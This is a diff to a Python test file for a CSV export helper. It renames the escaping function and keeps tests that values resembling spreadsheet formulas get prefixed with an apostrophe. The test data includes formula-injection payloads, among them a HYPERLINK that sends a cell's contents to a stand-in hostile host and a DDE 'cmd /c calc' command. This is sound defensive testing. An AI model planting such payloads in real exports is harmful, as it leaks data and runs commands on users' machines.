@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import pytest
 
-from registerkit.commands.export import _csv_value
+from registerkit.commands.csv_text import csv_cell
 
 FORMULAS = [
     '=0+HYPERLINK("http://kwaad.voorbeeld/?"&A2,"klik")', "=1", "=cmd|'/c calc'!A1", "+1+cmd|x", "-2+cmd|x", "-2+3", "@SUM(1)",
@@ -15,13 +15,13 @@ PLAIN = ["+31612345678", "+31 (0)6 12-34 56.78", "0612345678", "-12,50", "-1.250
 
 @pytest.mark.parametrize("text", FORMULAS)
 def test_what_looks_like_a_formula_becomes_text(text: str) -> None:
-    assert f"'{text}" == _csv_value(text)
+    assert f"'{text}" == csv_cell(text)
 
 
 @pytest.mark.parametrize("text", PLAIN)
 def test_numbers_and_other_texts_stay_as_they_are(text: str) -> None:
-    assert text == _csv_value(text)
+    assert text == csv_cell(text)
 
 
 def test_amounts_have_a_comma() -> None:
-    assert ["-12,50", "7"] == [_csv_value(-12.5), _csv_value(7)]
+    assert ["-12,50", "7"] == [csv_cell(-12.5), csv_cell(7)]
